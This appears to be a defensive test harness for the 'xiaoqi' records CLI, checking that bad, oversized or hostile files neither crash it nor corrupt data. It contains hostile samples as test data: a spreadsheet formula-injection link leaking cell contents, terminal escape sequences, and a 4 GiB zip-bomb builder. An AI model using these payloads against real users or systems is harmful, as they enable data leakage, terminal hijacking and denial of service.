@@ -1,0 +1,922 @@
+"""A hostile run: bad files, misuse, broken database states and files meant to attack their reader,
+each tried through the real ``xiaoqi`` command in a subprocess, and each outcome judged:
+
+- clear    — the right outcome: a clear message (no internal error, no traceback, no SQL
+             parameters) and the data as it was, or a correct success;
+- internal — the catch-all "internal error", a traceback, a crash or SQL parameters in a message;
+- hang     — no answer within the case's time limit, or a resource blow-up (memory, time);
+- changed  — data changed or lost (a wrong decode stored, values erased, an input file
+             overwritten, a symlink or device replaced) or a file written that attacks its reader
+             (a live formula, a raw control character on the terminal);
+- wrong    — a wrong message or result without a data change (success reported for a refusal,
+             a usage mistake silently ignored, a filter that matches everything).
+
+    .venv/bin/python bench/hostile.py                 # SQLite and PostgreSQL (when reachable)
+    .venv/bin/python bench/hostile.py --only export   # the cases whose name contains "export"
+
+Run as root, the read-only and disk-full cases use small tmpfs mounts (skipped otherwise). The
+machine may be shared: the time limits are generous, and the figures are counts, not timings.
+"""
+
+from __future__ import annotations
+
+import argparse
+import csv
+import hashlib
+import io
+import json
+import os
+import shutil
+import signal
+import sqlite3
+import subprocess
+import sys
+import tempfile
+import time
+import zipfile
+from dataclasses import dataclass
+from pathlib import Path
+
+XIAOQI = [sys.executable, "-m", "xiaoqi.core.cli"]
+PG_SERVER = os.environ.get("XIAOQI_TEST_PG", "postgresql+psycopg://postgres@127.0.0.1:5432/postgres")
+VERDICTS = ("clear", "internal", "hang", "changed", "wrong")
+#: what the catch-all and a leaked statement look like (the run speaks English)
+INTERNAL = ("Internal error", "Traceback (most recent call last)", "[parameters:", "[SQL:")
+MEMORY_LIMIT = 2 << 30  # a command that needs more than this for a small file is a blow-up
+
+
+@dataclass
+class Run:
+    rc: int | None
+    out: str
+    err: str
+    seconds: float
+    rss: int  # bytes, peak
+
+    @property
+    def text(self) -> str:
+        return self.out + self.err
+
+    @property
+    def internal(self) -> bool:
+        return self.rc is not None and (self.rc < 0 or any(m in self.text for m in INTERNAL))
+
+
+def xiaoqi(db: str, *args, timeout: float = 60, env: dict | None = None, stdin=subprocess.DEVNULL) -> Run:
+    """The command in a subprocess with its peak memory (``wait4``) and a time limit."""
+    start = time.monotonic()
+    proc = subprocess.Popen([*XIAOQI, "--lang", "en", "--db", db, *map(str, args)], stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, stdin=stdin, env={**os.environ, **(env or {})},
+                            start_new_session=True)
+    out_chunks: list[bytes] = []
+    err_chunks: list[bytes] = []
+    import threading
+
+    readers = [threading.Thread(target=lambda s=s, c=c: c.append(s.read()), daemon=True)
+               for s, c in ((proc.stdout, out_chunks), (proc.stderr, err_chunks))]
+    for r in readers:
+        r.start()
+    rc, rss = None, 0
+    while True:
+        pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
+        if pid:
+            rc = os.waitstatus_to_exitcode(status)
+            rss = usage.ru_maxrss * 1024
+            break
+        if time.monotonic() - start > timeout:
+            os.killpg(proc.pid, signal.SIGKILL)
+            os.wait4(proc.pid, 0)
+            break
+        time.sleep(0.02)
+    proc.returncode = rc if rc is not None else -9
+    for r in readers:
+        r.join(5)
+    decode = lambda chunks: b"".join(chunks).decode("utf-8", "replace")  # noqa: E731
+    return Run(rc, decode(out_chunks), decode(err_chunks), time.monotonic() - start, rss)
+
+
+def refused(run: Run, before: str, after: str, *, limit_seconds: float = 30) -> str:
+    """The verdict for a command that must fail and change nothing."""
+    if run.rc is None or run.seconds > limit_seconds or run.rss > MEMORY_LIMIT:
+        return "hang"
+    if run.internal:
+        return "internal"
+    if before != after:
+        return "changed"
+    if run.rc == 0:
+        return "wrong"
+    return "clear"
+
+
+# -- databases --------------------------------------------------------------------------------
+
+def digest(db: str) -> str:
+    """Every row of every table (SQLite file or PostgreSQL URL), hashed."""
+    h = hashlib.sha256()
+    if "://" not in db:
+        try:  # a database in a read-only folder has no -shm to open: read the file as it is
+            conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
+            conn.execute("SELECT 1 FROM sqlite_master").fetchall()
+        except sqlite3.OperationalError:
+            conn = sqlite3.connect(f"file:{db}?immutable=1", uri=True)
+        names = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name")]
+        for name in names:
+            for row in sorted(map(repr, conn.execute(f'SELECT * FROM "{name}"'))):
+                h.update(row.encode())
+        conn.close()
+        return h.hexdigest()
+    import psycopg
+
+    with psycopg.connect(db.replace("postgresql+psycopg", "postgresql")) as conn:
+        names = [r[0] for r in conn.execute(
+            "SELECT tablename FROM pg_tables WHERE schemaname = 'public' ORDER BY tablename")]
+        for name in names:
+            for row in sorted(map(repr, conn.execute(f'SELECT * FROM "{name}"'))):
+                h.update(row.encode())
+    return h.hexdigest()
+
+
+class Place:
+    """A scratch directory with a demo SQLite database made once and copied per case."""
+
+    def __init__(self, root: Path):
+        self.root = root
+        self.template = root / "template.db"
+        run = xiaoqi(str(self.template), "demo", timeout=300)
+        assert run.rc == 0, run.text
+        conn = sqlite3.connect(self.template)
+        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
+        self.school = conn.execute("SELECT school_code FROM schools ORDER BY id LIMIT 1").fetchone()[0]
+        self.position = conn.execute("SELECT uscc, position_code FROM positions ORDER BY id LIMIT 1").fetchone()
+        self.student = conn.execute("SELECT id_number, school_code, student_no FROM students ORDER BY id LIMIT 1").fetchone()
+        conn.close()
+        self.n = 0
+
+    def db(self, where: Path | None = None) -> str:
+        self.n += 1
+        folder = where or self.root / f"case{self.n}"
+        folder.mkdir(parents=True, exist_ok=True)
+        path = folder / "x.db"
+        shutil.copyfile(self.template, path)
+        return str(path)
+
+    def file(self, name: str) -> Path:
+        self.n += 1
+        folder = self.root / f"files{self.n}"
+        folder.mkdir()
+        return folder / name
+
+
+# -- files ------------------------------------------------------------------------------------
+
+SCHOOL_HEAD = ["school_code", "name", "level", "region"]
+
+
+def school_code(n: int) -> str:
+    return f"41320{n:05d}"
+
+
+def schools_csv(path: Path, names: list[str], encoding: str) -> Path:
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\r\n")
+    writer.writerow(SCHOOL_HEAD)
+    for i, name in enumerate(names):
+        writer.writerow([school_code(90000 + i), name, "technician", "320100"])
+    path.write_bytes(buffer.getvalue().encode(encoding))
+    return path
+
+
+def xlsx(path: Path, rows: list[list], patch=None) -> Path:
+    """A workbook written by openpyxl; ``patch(xml) -> xml`` edits the first sheet's XML."""
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    sheet = book.active
+    for row in rows:
+        sheet.append(row)
+    book.save(path)
+    if patch:
+        with zipfile.ZipFile(path) as z:
+            items = [(i, z.read(i)) for i in z.infolist()]
+        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+            for info, data in items:
+                if info.filename == "xl/worksheets/sheet1.xml":
+                    data = patch(data.decode()).encode()
+                z.writestr(info, data)
+    return path
+
+
+def stored_school(db: str, code: str):
+    conn = sqlite3.connect(db)
+    row = conn.execute("SELECT name, region, contact FROM schools WHERE school_code = ?", (code,)).fetchone()
+    conn.close()
+    return row
+
+
+def sql(db: str, statement: str, params=()) -> None:
+    conn = sqlite3.connect(db)
+    conn.execute(statement, params)
+    conn.commit()
+    conn.close()
+
+
+# -- the cases --------------------------------------------------------------------------------
+
+CASES = []
+
+
+def case(item: str, name: str, backend: str = "sqlite"):
+    def add(fn):
+        CASES.append((item, name, backend, fn))
+        return fn
+    return add
+
+
+# 1. imports never corrupt or erase
+
+@case("1", "csv-big5")
+def _(p: Place):
+    db = p.db()
+    f = schools_csv(p.file("big5.csv"), ["陳國華職業學院", "臺灣技術學院"], "big5")
+    before = digest(db)
+    run = xiaoqi(db, "import", "schools", f)
+    return refused(run, before, digest(db))
+
+
+@case("1", "csv-shift-jis")
+def _(p: Place):
+    db = p.db()
+    f = schools_csv(p.file("sjis.csv"), ["山田技術学校", "東京工業専門学校"], "shift_jis")
+    before = digest(db)
+    return refused(xiaoqi(db, "import", "schools", f), before, digest(db))
+
+
+@case("1", "csv-big5-named-encoding")
+def _(p: Place):
+    db = p.db()
+    f = schools_csv(p.file("big5.csv"), ["陳國華職業學院"], "big5")
+    run = xiaoqi(db, "import", "schools", f, "--encoding", "big5")
+    if run.internal:
+        return "internal"
+    if run.rc != 0:
+        return "clear"  # no --encoding option: refused clearly
+    return "clear" if stored_school(db, school_code(90000))[0] == "陳國華職業學院" else "changed"
+
+
+@case("1", "csv-gb18030-good")
+def _(p: Place):
+    db = p.db()
+    f = schools_csv(p.file("gb.csv"), ["南京新华职业学院", "苏州科技学院"], "gb18030")
+    run = xiaoqi(db, "import", "schools", f)
+    if run.internal:
+        return "internal"
+    return "clear" if run.rc == 0 and stored_school(db, school_code(90000))[0] == "南京新华职业学院" else "wrong"
+
+
+def _reimport_with(p: Place, patch) -> str:
+    """Import schools with contacts, then the same file with one cell broken by ``patch``."""
+    db = p.db()
+    rows = [SCHOOL_HEAD + ["联系人"]] + [[school_code(90000 + i), f"测试学院{i}", "高职", "320100", f"联系人{i}"]
+                                      for i in range(3)]
+    good = xlsx(p.file("good.xlsx"), rows)
+    assert xiaoqi(db, "import", "schools", good).rc == 0
+    bad = xlsx(p.file("bad.xlsx"), rows, patch)
+    before = digest(db)
+    return refused(xiaoqi(db, "import", "schools", bad), before, digest(db))
+
+
+def _cell(ref: str, replacement: str):
+    import re
+
+    return lambda xml: re.sub(rf'<c r="{ref}"[^>]*>.*?</c>', replacement, xml, count=1)
+
+
+@case("1", "xlsx-error-cell-na")
+def _(p):
+    return _reimport_with(p, _cell("E2", '<c r="E2" t="e"><f>NA()</f><v>#N/A</v></c>'))
+
+
+@case("1", "xlsx-error-cell-ref")
+def _(p):
+    return _reimport_with(p, _cell("E3", '<c r="E3" t="e"><v>#REF!</v></c>'))
+
+
+@case("1", "xlsx-formula-no-value")
+def _(p):
+    return _reimport_with(p, _cell("E4", '<c r="E4"><f>CONCAT("a","b")</f></c>'))
+
+
+@case("1", "xlsx-merged-cells")
+def _(p):
+    def merge(xml):
+        xml = _cell("E3", '<c r="E3"/>')(_cell("E4", '<c r="E4"/>')(xml))
+        return xml.replace("</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="E2:E4"/></mergeCells>')
+    return _reimport_with(p, merge)
+
+
+def _json_import(p: Place, kind: str, items: list, raw: str | None = None) -> str:
+    db = p.db()
+    f = p.file("x.json")
+    f.write_text(raw if raw is not None else json.dumps(items, ensure_ascii=False), encoding="utf-8")
+    before = digest(db)
+    return refused(xiaoqi(db, "import", kind, f), before, digest(db))
+
+
+@case("1", "json-nan-text")
+def _(p):
+    return _json_import(p, "schools", [], raw='[{"学校代码": "4132090000", "学校名称": NaN, "办学层次": "高职", "所在地区代码": "320100"}]')
+
+
+@case("1", "json-infinity-int")
+def _(p):
+    uscc, code = p.position
+    return _json_import(p, "positions", [], raw=f'[{{"uscc": "{uscc}", "position_code": "{code}", "title": "x", '
+                                               f'"major_category": "46", "staff_count": Infinity}}]')
+
+
+for _name, _char in (("nul", "\x00"), ("esc", "\x1b[2J"), ("bidi", "\u202e")):
+    def _control(p, char=_char):
+        return _json_import(p, "schools", [{"学校代码": "4132090000", "学校名称": f"坏{char}学院", "办学层次": "高职",
+                                            "所在地区代码": "320100"}])
+    case("1", f"json-control-{_name}")(_control)
+
+    def _control_csv(p, char=_char):
+        db = p.db()
+        f = schools_csv(p.file("c.csv"), [f"坏{char}学院"], "utf-8")
+        before = digest(db)
+        return refused(xiaoqi(db, "import", "schools", f), before, digest(db))
+    case("1", f"csv-control-{_name}")(_control_csv)
+
+
+# 2. the message is the truth
+
+def _invalid_file(p: Place) -> Path:
+    return schools_csv(p.file("mixed.csv"), ["好学院", ""], "utf-8")  # the second row lacks its name
+
+
+@case("2", "errors-to-missing-dir")
+def _(p):
+    db = p.db()
+    f = _invalid_file(p)
+    before = digest(db)
+    run = xiaoqi(db, "import", "schools", f, "--skip-invalid", "--errors", "/nonexistent/e.csv")
+    return refused(run, before, digest(db))
+
+
+@case("2", "errors-onto-input")
+def _(p):
+    db = p.db()
+    f = _invalid_file(p)
+    content = f.read_bytes()
+    before = digest(db)
+    run = xiaoqi(db, "import", "schools", f, "--errors", f)
+    verdict = refused(run, before, digest(db))
+    return "changed" if f.read_bytes() != content else verdict
+
+
+# 3. routine conditions
+
+def _mount(path: Path, size: str, *, ro: bool = False) -> bool:
+    path.mkdir(parents=True, exist_ok=True)
+    if os.geteuid() != 0:
+        return False
+    return subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}" + (",ro" if ro else ""), "tmpfs", str(path)],
+                          capture_output=True).returncode == 0
+
+
+def _umount(path: Path) -> None:
+    subprocess.run(["umount", "-l", str(path)], capture_output=True)
+
+
+@case("3", "sqlite-busy")
+def _(p):
+    db = p.db()
+    holder = subprocess.Popen([sys.executable, "-c", "import sqlite3,sys,time; c=sqlite3.connect(sys.argv[1], isolation_level=None);"
+                               "c.execute('BEGIN IMMEDIATE'); print('x', flush=True); time.sleep(120)", db],
+                              stdout=subprocess.PIPE)
+    holder.stdout.readline()
+    try:
+        before = digest(db)
+        run = xiaoqi(db, "records", "set", "schools", p.school, "contact=某某", timeout=60)
+        return refused(run, before, digest(db), limit_seconds=45)
+    finally:
+        holder.kill()
+        holder.wait()
+
+
+@case("3", "read-only-folder")
+def _(p):
+    mount = p.root / f"ro{p.n}"
+    if not _mount(mount, "64m"):
+        return None
+    try:
+        db = p.db(mount)
+        subprocess.run(["mount", "-o", "remount,ro", str(mount)], check=True)
+        before = digest(db)
+        run = xiaoqi(db, "records", "set", "schools", p.school, "contact=某某")
+        return refused(run, before, digest(db))
+    finally:
+        _umount(mount)
+
+
+@case("3", "missing-output-dir-export")
+def _(p):
+    db = p.db()
+    return refused(xiaoqi(db, "export", "schools", "-o", "/nonexistent/s.csv"), "", "")
+
+
+@case("3", "missing-output-dir-template")
+def _(p):
+    db = p.db()
+    return refused(xiaoqi(db, "template", "schools", "-o", "/nonexistent/t.xlsx"), "", "")
+
+
+@case("3", "missing-output-dir-backup")
+def _(p):
+    db = p.db()
+    return refused(xiaoqi(db, "backup", "/nonexistent/b.db"), "", "")
+
+
+@case("3", "missing-output-dir-report")
+def _(p):
+    db = p.db()
+    return refused(xiaoqi(db, "report", "annual", "--year", "2026", "-o", "/nonexistent/r.md"), "", "")
+
+
+@case("3", "int-beyond-64-bit")
+def _(p):
+    db = p.db()
+    uscc, code = p.position
+    before = digest(db)
+    return refused(xiaoqi(db, "records", "set", "positions", f"{uscc}/{code}", "staff_count=" + "9" * 25), before, digest(db))
+
+
+@case("3", "disk-full")
+def _(p):
+    mount = p.root / f"full{p.n}"
+    if not _mount(mount, "12m"):
+        return None
+    try:
+        db = p.db(mount)
+        f = p.file("big.csv")
+        names = [f"很长的学院名称{i:06d}" + "学" * 150 for i in range(20000)]
+        buffer = io.StringIO()
+        writer = csv.writer(buffer)
+        writer.writerow(SCHOOL_HEAD)
+        for i, name in enumerate(names):
+            writer.writerow([f"41{i:08d}", name, "高职", "320100"])
+        f.write_text(buffer.getvalue(), encoding="utf-8")
+        before = digest(db)
+        return refused(xiaoqi(db, "import", "schools", f), before, digest(db))
+    finally:
+        _umount(mount)
+
+
+@case("3", "newer-schema")
+def _(p):
+    db = p.db()
+    sql(db, "UPDATE alembic_version SET version_num = '9999_future' WHERE version_num = '0001'")
+    before = digest(db)
+    return refused(xiaoqi(db, "status"), before, digest(db))
+
+
+def _corrupt(db: str) -> None:
+    """Random bytes over every other page after the schema's: the tables' pages are damaged."""
+    size = os.path.getsize(db)
+    with open(db, "r+b") as fh:
+        for page in range(2, size // 4096, 2):
+            fh.seek(page * 4096)
+            fh.write(os.urandom(4096))
+
+
+@case("3", "corrupt-file")
+def _(p):
+    db = p.db()
+    _corrupt(db)
+    return refused(xiaoqi(db, "status"), "", "")
+
+
+@case("3", "not-a-database")
+def _(p):
+    f = p.file("notes.db")
+    f.write_text("hello, not a database\n" * 100)
+    return refused(xiaoqi(str(f), "status"), "", "")
+
+
+# 4. limits
+
+@case("4", "xlsx-cell-at-XFD1048576")
+def _(p):
+    db = p.db()
+    f = xlsx(p.file("far.xlsx"), [SCHOOL_HEAD], lambda xml: xml.replace(
+        "</row></sheetData>", '</row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
+        .replace('<dimension ref="A1:D1"', '<dimension ref="A1:XFD1048576"'))
+    before = digest(db)
+    return refused(xiaoqi(db, "import", "schools", f), before, digest(db))
+
+
+@case("4", "xlsx-cell-at-XFD2000")
+def _(p):
+    db = p.db()
+    f = xlsx(p.file("wide.xlsx"), [SCHOOL_HEAD], lambda xml: xml.replace(
+        "</row></sheetData>", '</row><row r="2000"><c r="XFD2000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
+        .replace('<dimension ref="A1:D1"', '<dimension ref="A1:XFD2000"'))
+    before = digest(db)
+    return refused(xiaoqi(db, "import", "schools", f), before, digest(db), limit_seconds=5)
+
+
+@case("4", "xlsx-zip-bomb")
+def _(p):
+    db = p.db()
+    f = p.file("bomb.xlsx")
+    xlsx(f, [SCHOOL_HEAD])
+    with zipfile.ZipFile(f) as z:
+        items = [(i, z.read(i)) for i in z.infolist()]
+    with zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED) as z:
+        for info, data in items:
+            if info.filename == "xl/worksheets/sheet1.xml":
+                with z.open(info.filename, "w", force_zip64=True) as out:
+                    text = data.decode()
+                    head, tail = text.split("</sheetData>")
+                    out.write(head.encode())
+                    block = b" " * (1 << 24)
+                    for _ in range(256):  # 4 GiB of blanks
+                        out.write(block)
+                    out.write(b"</sheetData>" + tail.encode())
+            else:
+                z.writestr(info, data)
+    before = digest(db)
+    return refused(xiaoqi(db, "import", "schools", f, timeout=120), before, digest(db), limit_seconds=10)
+
+
+@case("4", "huge-cell-echoed")
+def _(p):
+    db = p.db()
+    f = p.file("big.json")
+    f.write_text(json.dumps([{"学校代码": "4" * (20 << 20), "学校名称": "x", "办学层次": "高职", "所在地区代码": "320100"}]))
+    before = digest(db)
+    run = xiaoqi(db, "import", "schools", f)
+    verdict = refused(run, before, digest(db))
+    return "wrong" if verdict == "clear" and len(run.text) > 100_000 else verdict
+
+
+@case("4", "csv-100k-columns")
+def _(p):
+    db = p.db()
+    f = p.file("wide.csv")
+    f.write_text(",".join(SCHOOL_HEAD + [f"c{i}" for i in range(100_000)]) + "\n")
+    before = digest(db)
+    run = xiaoqi(db, "import", "schools", f)
+    verdict = refused(run, before, digest(db))
+    return "wrong" if verdict == "clear" and len(run.text) > 100_000 else verdict
+
+
+# 5. files that cannot attack their reader
+
+FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
+
+
+def _stored_formula(p: Place) -> str:
+    db = p.db()
+    sql(db, "UPDATE schools SET name = ? WHERE school_code = ?", (FORMULA, p.school))
+    return db
+
+
+@case("5", "export-csv-formula")
+def _(p):
+    db = _stored_formula(p)
+    out = p.file("s.csv")
+    run = xiaoqi(db, "export", "schools", "-o", out)
+    if run.internal:
+        return "internal"
+    text = out.read_text(encoding="utf-8-sig")
+    return "changed" if any(line.split(",")[1].lstrip('"').startswith("=") for line in text.splitlines()[1:]) else "clear"
+
+
+@case("5", "export-xlsx-formula")
+def _(p):
+    import openpyxl
+
+    db = _stored_formula(p)
+    out = p.file("s.xlsx")
+    run = xiaoqi(db, "export", "schools", "-o", out)
+    if run.internal or run.rc != 0:
+        return "internal" if run.internal else "wrong"
+    sheet = openpyxl.load_workbook(out).active
+    return "changed" if any(c.data_type == "f" for row in sheet.iter_rows() for c in row) else "clear"
+
+
+@case("5", "report-xlsx-formula")
+def _(p):
+    import openpyxl
+
+    db = _stored_formula(p)
+    out = p.file("r.xlsx")
+    run = xiaoqi(db, "report", "annual", "--year", "2026", "-o", out)
+    if run.internal or run.rc != 0:
+        return "internal" if run.internal else "wrong"
+    book = openpyxl.load_workbook(out)
+    live = any(c.data_type == "f" for s in book.worksheets for row in s.iter_rows() for c in row)
+    return "changed" if live else "clear"
+
+
+@case("5", "errors-file-formula")
+def _(p):
+    db = p.db()
+    f = p.file("f.csv")
+    f.write_text(",".join(SCHOOL_HEAD) + "\n" + '=1+2,x,高职,320100\n', encoding="utf-8")
+    errors = p.file("e.csv")
+    xiaoqi(db, "import", "schools", f, "--errors", errors)
+    if not errors.exists():
+        return "wrong"
+    rows = list(csv.reader(errors.read_text(encoding="utf-8-sig").splitlines()))
+    return "changed" if any(cell.startswith("=") for row in rows[1:] for cell in row) else "clear"
+
+
+@case("5", "esc-in-stored-name-list")
+def _(p):
+    db = p.db()
+    sql(db, "UPDATE schools SET name = ? WHERE school_code = ?", ("坏\x1b]0;owned\x07\x1b[2J学院", p.school))
+    run = xiaoqi(db, "records", "list", "schools")
+    if run.internal:
+        return "internal"
+    return "changed" if "\x1b" in run.out else "clear"
+
+
+@case("5", "esc-in-stored-name-xlsx")
+def _(p):
+    db = p.db()
+    sql(db, "UPDATE schools SET name = ? WHERE school_code = ?", ("坏\x1b[2J学院", p.school))
+    run = xiaoqi(db, "export", "schools", "-o", p.file("s.xlsx"))
+    return "internal" if run.internal else ("clear" if run.rc == 0 else "wrong")
+
+
+@case("5", "export-onto-symlink")
+def _(p):
+    db = p.db()
+    target = p.file("precious.txt")
+    target.write_text("keep me")
+    link = target.with_name("link.csv")
+    link.symlink_to(target)
+    run = xiaoqi(db, "export", "schools", "-o", link)
+    if run.internal:
+        return "internal"
+    return "changed" if not link.is_symlink() or target.read_text() != "keep me" else "clear"
+
+
+@case("5", "export-onto-fifo")
+def _(p):
+    db = p.db()
+    fifo = p.file("pipe.csv")
+    os.mkfifo(fifo)
+    run = xiaoqi(db, "export", "schools", "-o", fifo, timeout=20)
+    if run.rc is None:
+        return "hang"
+    if run.internal:
+        return "internal"
+    return "changed" if not fifo.is_fifo() else "clear"
+
+
+# 6. backup and restore
+
+@case("6", "backup-of-corrupt-db")
+def _(p):
+    db = p.db()
+    _corrupt(db)
+    out = p.file("b.db")
+    run = xiaoqi(db, "backup", out)
+    if run.internal:
+        return "internal"
+    return "wrong" if run.rc == 0 else "clear"
+
+
+@case("6", "restore-while-held")
+def _(p):
+    db = p.db()
+    copy = p.file("b.db")
+    shutil.copyfile(db, copy)
+    holder = subprocess.Popen([sys.executable, "-c", "import sqlite3,sys,time; c=sqlite3.connect(sys.argv[1]);"
+                               "c.execute('SELECT count(*) FROM schools').fetchone(); print('x', flush=True); time.sleep(60)", db],
+                              stdout=subprocess.PIPE)
+    holder.stdout.readline()
+    try:
+        before = digest(db)
+        run = xiaoqi(db, "restore", copy, "--yes")
+        return refused(run, before, digest(db))
+    finally:
+        holder.kill()
+        holder.wait()
+
+
+@case("6", "restore-garbage-file")
+def _(p):
+    db = p.db()
+    junk = p.file("junk.db")
+    junk.write_bytes(os.urandom(8192))
+    before = digest(db)
+    return refused(xiaoqi(db, "restore", junk, "--yes"), before, digest(db))
+
+
+# 7. the same validation on both databases
+
+@case("7", "filter-percent")
+def _(p):
+    db = p.db()
+    run = xiaoqi(db, "records", "list", "schools", "--filter", "name=%", "--format", "json")
+    if run.internal:
+        return "internal"
+    return "wrong" if run.rc == 0 and json.loads(run.out) else "clear"
+
+
+@case("7", "search-underscore")
+def _(p):
+    db = p.db()
+    run = xiaoqi(db, "records", "list", "schools", "--search", "_", "--format", "json")
+    if run.internal:
+        return "internal"
+    return "wrong" if run.rc == 0 and json.loads(run.out) else "clear"
+
+
+@case("7", "unknown-sort-column")
+def _(p):
+    db = p.db()
+    run = xiaoqi(db, "records", "list", "schools", "--sort", "nosuch")
+    if run.internal:
+        return "internal"
+    return "clear" if run.rc == 2 else "wrong"
+
+
+@case("7", "int-2-31-sqlite")
+def _(p):
+    db = p.db()
+    uscc, code = p.position
+    before = digest(db)
+    return refused(xiaoqi(db, "records", "set", "positions", f"{uscc}/{code}", "staff_count=3000000000"), before, digest(db))
+
+
+@case("7", "control-char-in-text-sqlite")
+def _(p):
+    db = p.db()
+    before = digest(db)
+    return refused(xiaoqi(db, "records", "set", "schools", p.school, "contact=a\x01b"), before, digest(db))
+
+
+# PostgreSQL
+
+class PgPlace:
+    def __init__(self, place: Place):
+        import psycopg
+
+        self.server = PG_SERVER.replace("postgresql+psycopg", "postgresql")
+        self.name = f"xiaoqi_hostile_{os.getpid()}"
+        with psycopg.connect(self.server, autocommit=True) as conn:
+            conn.execute(f'DROP DATABASE IF EXISTS "{self.name}"')
+            conn.execute(f'CREATE DATABASE "{self.name}"')
+        self.url = PG_SERVER.rsplit("/", 1)[0] + "/" + self.name
+        assert xiaoqi(self.url, "init", timeout=300).rc == 0
+        run = xiaoqi(self.url, "demo", timeout=600)
+        assert run.rc == 0, run.text
+        self.place = place
+
+    def lock(self, statement: str):
+        """Another session holding a lock until ``release()``."""
+        import psycopg
+
+        conn = psycopg.connect(self.url.replace("postgresql+psycopg", "postgresql"))
+        conn.execute("BEGIN")
+        conn.execute(statement)
+        return conn
+
+    def drop(self) -> None:
+        import psycopg
+
+        with psycopg.connect(self.server, autocommit=True) as conn:
+            conn.execute(f'DROP DATABASE IF EXISTS "{self.name}" WITH (FORCE)')
+
+
+def _pg_refused(pg: PgPlace, *args, lock: str | None = None, timeout: float = 25) -> str:
+    held = pg.lock(lock) if lock else None
+    try:
+        before = digest(pg.url)
+        run = xiaoqi(pg.url, *args, timeout=timeout)
+    finally:
+        if held is not None:
+            held.close()
+    return refused(run, before, digest(pg.url), limit_seconds=timeout)
+
+
+@case("4", "pg-locked-records-set", "pg")
+def _(pg):
+    return _pg_refused(pg, "records", "set", "schools", pg.place.school, "contact=某某",
+                       lock=f"SELECT * FROM schools WHERE school_code = '{pg.place.school}' FOR UPDATE")
+
+
+@case("4", "pg-locked-import", "pg")
+def _(pg):
+    f = schools_csv(pg.place.file("s.csv"), ["新学院"], "utf-8")
+    return _pg_refused(pg, "import", "schools", f, lock="LOCK TABLE schools IN EXCLUSIVE MODE")
+
+
+@case("4", "pg-locked-status", "pg")
+def _(pg):
+    run_lock = "LOCK TABLE internships IN ACCESS EXCLUSIVE MODE"
+    held = pg.lock(run_lock)
+    try:
+        run = xiaoqi(pg.url, "status", timeout=25)
+    finally:
+        held.close()
+    if run.rc is None:
+        return "hang"
+    return "internal" if run.internal else ("clear" if run.rc != 0 else "wrong")
+
+
+@case("7", "pg-int-2-31", "pg")
+def _(pg):
+    uscc, code = pg.place.position
+    return _pg_refused(pg, "records", "set", "positions", f"{uscc}/{code}", "staff_count=3000000000")
+
+
+@case("7", "pg-nul-in-text", "pg")
+def _(pg):
+    f = pg.place.file("nul.json")
+    f.write_text(json.dumps([{"school_code": "4132090000", "name": "坏\x00学院", "level": "高职", "region": "320100"}]))
+    return _pg_refused(pg, "import", "schools", f)
+
+
+@case("3", "pg-unreachable", "pg")
+def _(pg):
+    return refused(xiaoqi("postgresql+psycopg://postgres@127.0.0.1:1/none", "status"), "", "")
+
+
+@case("3", "pg-connection-lost", "pg")
+def _(pg):
+    """The server ends the session while a large import runs."""
+    import psycopg
+
+    f = pg.place.file("many.csv")
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow(SCHOOL_HEAD)
+    for i in range(200_000):
+        writer.writerow([f"42{i:08d}", f"学院{i}", "高职", "320100"])
+    f.write_text(buffer.getvalue(), encoding="utf-8")
+    before = digest(pg.url)
+    proc_start = time.monotonic()
+    import threading
+
+    def killer():
+        time.sleep(3)
+        with psycopg.connect(pg.server, autocommit=True) as conn:
+            conn.execute("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = %s AND pid <> pg_backend_pid()",
+                         (pg.name,))
+
+    threading.Thread(target=killer, daemon=True).start()
+    run = xiaoqi(pg.url, "import", "schools", f, timeout=120)
+    del proc_start
+    return refused(run, before, digest(pg.url), limit_seconds=120)
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    parser.add_argument("--only", default=None, help="run the cases whose name contains this")
+    parser.add_argument("--no-pg", action="store_true", help="SQLite cases only")
+    args = parser.parse_args()
+    counts = {v: 0 for v in VERDICTS}
+    by_item: dict[str, dict[str, int]] = {}
+    with tempfile.TemporaryDirectory(prefix="xiaoqi-hostile-") as tmp:
+        place = Place(Path(tmp))
+        pg = None
+        selected = [c for c in CASES if args.only is None or args.only in c[1]]
+        if not args.no_pg and any(c[2] == "pg" for c in selected):
+            try:
+                pg = PgPlace(place)
+            except Exception as exc:  # no server: the PostgreSQL cases are left out and said so
+                print(f"PostgreSQL cases skipped: {exc}", file=sys.stderr)
+        for item, name, backend, fn in selected:
+            if backend == "pg" and pg is None:
+                continue
+            started = time.monotonic()
+            try:
+                verdict = fn(pg if backend == "pg" else place)
+            except Exception as exc:
+                print(f"  {name}: the case itself failed: {type(exc).__name__}: {exc}", file=sys.stderr)
+                continue
+            if verdict is None:
+                print(f"  {name}: skipped (needs root for a tmpfs mount)", file=sys.stderr)
+                continue
+            counts[verdict] += 1
+            by_item.setdefault(item, {v: 0 for v in VERDICTS})[verdict] += 1
+            print(f"{item:>2}  {name:<32} {verdict:<9} {time.monotonic() - started:6.1f} s", flush=True)
+        if pg is not None:
+            pg.drop()
+    tried = sum(counts.values())
+    print()
+    print("item  tried  " + "  ".join(f"{v:>8}" for v in VERDICTS))
+    for item in sorted(by_item):
+        row = by_item[item]
+        print(f"{item:>4}  {sum(row.values()):>5}  " + "  ".join(f"{row[v]:>8}" for v in VERDICTS))
+    print(f" all  {tried:>5}  " + "  ".join(f"{counts[v]:>8}" for v in VERDICTS))
+
+
+if __name__ == "__main__":
+    main()
